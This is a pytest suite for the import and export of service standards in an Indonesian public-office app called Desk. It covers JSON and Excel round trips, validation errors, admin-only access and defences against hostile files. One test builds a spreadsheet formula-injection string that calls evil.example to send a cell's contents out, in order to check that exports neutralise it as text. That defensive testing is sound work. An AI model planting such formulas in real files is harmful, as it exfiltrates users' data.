"""Standards in and out: the lossless JSON round trip and the all-or-nothing Excel import."""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select

from desk.domain.imports import ImportRejected
from desk.domain.standard_rules import draft_of
from desk.formats.json_file import dump_json
from desk.formats.standards_file import json_content, read_standards_file, write_standards_file
from desk.paths import default_database_url
from desk.safety.opening import open_database
from desk.store import standards, standards_io
from desk.store.access import AccessDenied
from desk.store.database import Database
from desk.store.models import AuditEntry, Forum, Service, StandardVersion, Unit
from tests.factories import user_with_role
from tests.formats.xlsx_files import set_dimension


@pytest.fixture
def empty_db(tmp_path: Path) -> Iterator[Database]:
    """A migrated database with nothing seeded: no units, no services, no office profile."""
    folder = tmp_path / "empty"
    folder.mkdir()
    database = open_database(default_database_url(folder), folder, seed=False)
    yield database
    database.dispose()


def export_text(db: Database) -> str:
    return dump_json(json_content(standards_io.export_content(db))).decode("utf-8")


def add_second_version(db: Database, code: str) -> None:
    """A real history: a forum, and a second version of `code` approved in it."""
    with db.write() as session:
        forum = Forum(title="FKP Standar Pelayanan DKUKMTK 2025", starts_at=datetime(2025, 10, 29, 1, tzinfo=UTC),
                      venue="Aula DKUKMTK")
        session.add(forum)
        session.flush()
        forum_id = forum.id
    service_id = standards.service_by_code(db, code).service.id
    latest = standards.latest_standard(db, service_id)
    assert latest is not None
    draft = replace(draft_of(latest), effective_date=date(2026, 1, 2), sk_number="188.4/9/DKUKMTK/2026",
                    forum_id=forum_id, requirements=(*latest.requirements, "Surat keterangan domisili"))
    standards.save_version(db, service_id, draft)


def test_json_round_trip_through_an_empty_database_gives_the_same_file(db: Database, empty_db: Database,
                                                                      tmp_path: Path) -> None:
    add_second_version(db, "P1")
    first = tmp_path / "standar.json"
    report = standards_io.export_file(db, first, write_standards_file).value
    assert (report.services, report.versions) == (19, 20)
    data = json.loads(first.read_text(encoding="utf-8"))
    p1 = next(s for s in data["services"] if s["code"] == "P1")
    assert [v["version_no"] for v in p1["versions"]] == [1, 2]
    assert p1["versions"][1]["forum"]["title"] == "FKP Standar Pelayanan DKUKMTK 2025"

    imported = standards_io.import_file(empty_db, read_standards_file(first)).value
    assert imported.units_created == ("PNP", "BLK", "UKM", "KOP")
    assert len(imported.services_created) == 19 and len(imported.versions_added) == 20
    assert imported.forums_created == ("FKP Standar Pelayanan DKUKMTK 2025",)
    second = tmp_path / "lagi.json"
    standards_io.export_file(empty_db, second, write_standards_file)
    assert second.read_bytes() == first.read_bytes()

    # The same file again changes nothing (and says so).
    again = standards_io.import_file(empty_db, read_standards_file(first)).value
    assert again.changes == 0 and len(again.unchanged) == 19
    assert export_text(empty_db) == first.read_text(encoding="utf-8")


def test_a_json_file_adds_only_the_versions_desk_does_not_have(db: Database, tmp_path: Path) -> None:
    source = tmp_path / "kantor.json"
    standards_io.export_file(db, source, write_standards_file)
    data = json.loads(source.read_text(encoding="utf-8"))
    u1 = next(s for s in data["services"] if s["code"] == "U1")
    newer = dict(u1["versions"][0], version_no=2, effective_date="2026-02-02", sk_number="188.4/77/DKUKMTK/2026",
                 fee=5000, created_at=None)
    u1["versions"].append(newer)
    source.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
    report = standards_io.import_file(db, read_standards_file(source)).value
    assert report.versions_added == (("U1", 2),) and len(report.unchanged) == 18
    u1_id = standards.service_by_code(db, "U1").service.id
    assert standards.published(db, u1_id, on=date(2026, 2, 2)).standard.fee == 5000


def test_excel_export_then_import_changes_only_what_was_edited(db: Database, tmp_path: Path) -> None:
    workbook = tmp_path / "standar.xlsx"
    standards_io.export_file(db, workbook, write_standards_file)
    book = load_workbook(workbook)
    sheet = book["Standar Pelayanan"]
    headings = [c.value for c in sheet[1]]
    assert headings[:4] == ["Kode Layanan", "Kode Bidang", "Nama Layanan", "1. Persyaratan"]
    assert sheet.max_row == 20 and book.sheetnames == ["Standar Pelayanan", "Bidang", "Petunjuk"]
    unchanged = standards_io.import_file(db, read_standards_file(workbook)).value
    assert unchanged.changes == 0
    # The admin edits K3 in the spreadsheet: a new requirement line and a new SK.
    row = next(r for r in range(2, sheet.max_row + 1) if sheet.cell(r, 1).value == "K3")
    column = {h: i + 1 for i, h in enumerate(headings)}
    cell = sheet.cell(row, column["1. Persyaratan"])
    cell.value = f"{cell.value}\n6. Bukti setor simpanan pokok"
    sheet.cell(row, column["Nomor SK"]).value = "188.4/15/DKUKMTK/2026"
    sheet.cell(row, column["Tanggal Berlaku"]).value = "02-01-2026"
    book.save(workbook)
    report = standards_io.import_file(db, read_standards_file(workbook)).value
    assert report.versions_added == (("K3", 2),) and len(report.unchanged) == 18
    k3 = standards.latest_standard(db, standards.service_by_code(db, "K3").service.id)
    assert k3 is not None and k3.requirements[-1] == "Bukti setor simpanan pokok"
    assert k3.effective_date == date(2026, 1, 2)


def test_a_broken_excel_file_lists_every_problem_with_row_and_column_and_imports_nothing(
        db: Database, tmp_path: Path) -> None:
    workbook = tmp_path / "rusak.xlsx"
    standards_io.export_file(db, workbook, write_standards_file)
    before = export_text(db)
    book = load_workbook(workbook)
    sheet = book["Standar Pelayanan"]
    headings = [c.value for c in sheet[1]]
    column = {h: i + 1 for i, h in enumerate(headings)}
    sheet.cell(3, column["4. Biaya/Tarif (Rp; 0 = Gratis)"]).value = "sepuluh ribu"  # P2: bad fee
    sheet.cell(4, column["Nama Layanan"]).value = "   "  # P3: empty name
    sheet.cell(5, column["1. Persyaratan"]).value = "KTP-el\nSurat lamaran"  # P4: a real change that must not land
    sheet.cell(6, column["Kode Layanan"]).value = "P1"  # P5's row says P1: a duplicate code
    sheet.delete_cols(column["5. Produk Pelayanan"])  # a required column missing
    new_row = sheet.max_row + 1
    sheet.cell(new_row, 1).value = "X1"  # a new service of an unknown unit
    sheet.cell(new_row, 2).value = "ZZZ"
    sheet.cell(new_row, 3).value = "Layanan Percobaan"
    book.save(workbook)

    with pytest.raises(standards_io.ImportRejected) as caught:
        standards_io.import_file(db, read_standards_file(workbook))
    problems = [p.text() for p in caught.value.problems]
    assert "Baris 1: Kolom '5. Produk Pelayanan' tidak ada. Tambahkan kolom ini (lihat lembar Petunjuk)." in problems
    fee = next(p for p in caught.value.problems if p.row == 3)
    assert fee.column == "H" and "Biaya 'sepuluh ribu' tidak dapat dibaca" in fee.message
    assert fee.where == "Baris 3, kolom H (4. Biaya/Tarif (Rp; 0 = Gratis))"
    assert "Baris 4, kolom C (Nama Layanan): Nama layanan wajib diisi." in problems
    assert "Baris 6, kolom A (Kode Layanan): Kode layanan P1 ganda: sudah dipakai di Baris 2." in problems
    assert any(p.startswith(f"Baris {new_row}, kolom B (Kode Bidang): Bidang ZZZ tidak dikenal") for p in problems)
    # Nothing is imported: P4's real change is not there either.
    assert export_text(db) == before
    with db.read() as session:
        assert session.scalar(select(func.count()).select_from(AuditEntry).where(
            AuditEntry.action == "data.import")) == 0


def test_excel_into_an_empty_database_creates_units_and_services(db: Database, empty_db: Database,
                                                                 tmp_path: Path) -> None:
    workbook = tmp_path / "templat.xlsx"
    standards_io.export_file(db, workbook, write_standards_file)
    plan = standards_io.check_import_file(empty_db, read_standards_file(workbook))
    assert plan.dry_run and len(plan.services_created) == 19
    with empty_db.read() as session:
        assert session.scalar(select(func.count()).select_from(Service)) == 0  # checking writes nothing
    report = standards_io.import_file(empty_db, read_standards_file(workbook)).value
    assert report.units_created == ("PNP", "BLK", "UKM", "KOP") and len(report.versions_added) == 19
    with empty_db.read() as session:
        units = {u.code: u.full_name for u in session.scalars(select(Unit))}
        assert units["BLK"] == "Balai Latihan Kerja (BLK) Kabupaten Balangan"
    hits = standards.search_standards(empty_db, "ijazah", on=date(2025, 11, 3))
    assert [h.entry.service.code for h in hits] == ["P1", "P2", "P3", "B1"]


def test_a_json_file_with_wrong_types_is_refused_with_its_places(db: Database, tmp_path: Path) -> None:
    data = json.loads(export_text(db))
    version = data["services"][0]["versions"][0]
    version["fee"] = "gratis"
    version["requirements"] = "KTP"
    data["services"][1]["versions"][0]["effective_date"] = "kemarin"
    path = tmp_path / "salah.json"
    path.write_text(json.dumps(data), encoding="utf-8")
    with pytest.raises(standards_io.ImportRejected) as caught:
        standards_io.import_file(db, read_standards_file(path))
    problems = [p.text() for p in caught.value.problems]
    assert "Layanan ke-1 (P1), versi 1, Biaya/tarif: Biaya harus bilangan bulat rupiah (0 = Gratis)." in problems
    assert "Layanan ke-1 (P1), versi 1, Persyaratan: harus berupa daftar teks." in problems
    assert any(p.startswith("Layanan ke-2 (P2), versi 1, Tanggal berlaku: Tanggal 'kemarin'") for p in problems)
    not_ours = tmp_path / "lain.json"
    not_ours.write_text('{"hello": 1}', encoding="utf-8")
    with pytest.raises(ImportRejected, match="bukan ekspor standar pelayanan Desk"):
        read_standards_file(not_ours)


def test_only_an_admin_imports_or_exports(db: Database, tmp_path: Path) -> None:
    officer = user_with_role(db, "petugas")
    path = tmp_path / "x.json"
    standards_io.export_file(db, path, write_standards_file)
    with pytest.raises(AccessDenied):
        standards_io.export_file(db.as_user(officer), tmp_path / "y.json", write_standards_file)
    with pytest.raises(AccessDenied):
        standards_io.import_file(db.as_user(officer), read_standards_file(path))
    with db.read() as session:
        exports = session.scalars(select(AuditEntry.details).where(AuditEntry.action == "data.export")).all()
        assert session.scalar(select(func.count()).select_from(StandardVersion)) == 19
    assert exports == [{"file": "x.json", "kind": "json", "services": 19, "versions": 19}]


# --- hostile and damaged files ---------------------------------------------------------------------


def exported_workbook(db: Database, path: Path) -> Path:
    standards_io.export_file(db, path, write_standards_file)
    return path


def test_a_workbook_with_a_stale_dimension_imports_every_row(db: Database, tmp_path: Path) -> None:
    workbook = exported_workbook(db, tmp_path / "standar.xlsx")
    book = load_workbook(workbook)
    sheet = book["Standar Pelayanan"]
    p1 = [c.value for c in sheet[2]]
    sheet.append(["P9", "PNP", "Layanan Percobaan", *p1[3:]])
    book.save(workbook)
    set_dimension(workbook, "A1:W20")  # as some generators leave it: row 21 outside
    stale = load_workbook(workbook, read_only=True)
    assert sum(1 for _ in stale["Standar Pelayanan"].iter_rows()) == 20  # what the old import read
    stale.close()
    report = standards_io.import_file(db, read_standards_file(workbook)).value
    assert report.services_created == ("P9",) and report.versions_added == (("P9", 1),)

    set_dimension(workbook, "A1")
    again = standards_io.import_file(db, read_standards_file(workbook)).value
    assert again.changes == 0 and len(again.unchanged) == 20  # no false "Kolom ... tidak ada"


def test_formulas_in_a_file_are_exported_as_text_and_the_export_imports_unchanged(db: Database,
                                                                                  tmp_path: Path) -> None:
    hostile_name = '=HYPERLINK("http://evil.example/?d="&D2,"Klik untuk memperbarui")'
    data = json.loads(export_text(db))
    p1 = data["services"][0]
    p1["name"] = hostile_name
    p1["versions"][0]["notes"] = "=1+1"
    p1["versions"][0]["requirements"][0] = "@SUM(A1:A9)"
    source = tmp_path / "serangan.json"
    source.write_text(json.dumps(data), encoding="utf-8")
    standards_io.import_file(db, read_standards_file(source))
    workbook = exported_workbook(db, tmp_path / "ekspor.xlsx")
    sheet = load_workbook(workbook)["Standar Pelayanan"]
    headings = [c.value for c in sheet[1]]
    name = sheet.cell(2, headings.index("Nama Layanan") + 1)
    notes = sheet.cell(2, headings.index("Keterangan") + 1)
    assert (name.value, name.data_type) == (hostile_name, "s") and name.quotePrefix
    assert (notes.value, notes.data_type) == ("=1+1", "s")
    report = standards_io.import_file(db, read_standards_file(workbook)).value
    assert report.changes == 0 and len(report.unchanged) == 19
    assert json.loads(export_text(db))["services"][0]["name"] == hostile_name


def test_merged_unit_cells_are_read_down_the_rows(db: Database, tmp_path: Path) -> None:
    workbook = exported_workbook(db, tmp_path / "standar.xlsx")
    book = load_workbook(workbook)
    sheet = book["Standar Pelayanan"]
    assert [sheet.cell(r, 2).value for r in range(2, 5)] == ["PNP", "PNP", "PNP"]
    sheet.merge_cells("B2:B4")  # the unit written once for P1, P2 and P3
    book.save(workbook)
    report = standards_io.import_file(db, read_standards_file(workbook)).value
    assert report.changes == 0 and len(report.unchanged) == 19


def test_a_formula_without_a_saved_value_is_refused_at_its_cell(db: Database, tmp_path: Path) -> None:
    workbook = exported_workbook(db, tmp_path / "standar.xlsx")
    book = load_workbook(workbook)
    sheet = book["Standar Pelayanan"]
    column = [c.value for c in sheet[1]].index("Keterangan") + 1
    sheet.cell(3, column).value = '=CONCAT(C3," (baru)")'  # saved by a program that does not calculate
    book.save(workbook)
    with pytest.raises(ImportRejected) as caught:
        read_standards_file(workbook)
    problem = caught.value.problems[0]
    assert (problem.row, problem.column) == (3, "S")
    assert problem.text().startswith("Lembar Standar Pelayanan, baris 3, kolom S: Sel berisi rumus")


def test_too_many_services_and_too_deep_json_are_refused_before_anything_is_checked(tmp_path: Path) -> None:
    from tests.formats.xlsx_files import write_workbook

    rows = [["Kode Layanan", "Kode Bidang", "Nama Layanan"]] + [[f"X{n}", "PNP", "Layanan"] for n in range(1001)]
    with pytest.raises(ImportRejected, match=r"paling banyak 1.000 layanan\."):
        read_standards_file(write_workbook(tmp_path / "banyak.xlsx", rows, "Standar Pelayanan"))
    deep = tmp_path / "dalam.json"
    deep.write_bytes(b"[" * 100_000)
    with pytest.raises(ImportRejected, match="bersarang terlalu dalam"):
        read_standards_file(deep)
